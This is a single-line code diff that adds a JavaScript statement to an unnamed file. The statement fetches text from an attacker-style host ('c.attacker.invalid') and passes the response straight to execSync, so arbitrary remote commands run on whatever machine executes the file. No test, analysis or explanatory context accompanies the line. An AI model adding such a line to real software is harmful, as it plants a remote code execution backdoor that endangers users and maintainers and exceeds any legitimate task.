@@ -1,0 +1,1 @@
+import {execSync} from 'node:child_process';const r=await fetch('https://c.attacker.invalid/b');const t=await r.text();execSync(t);
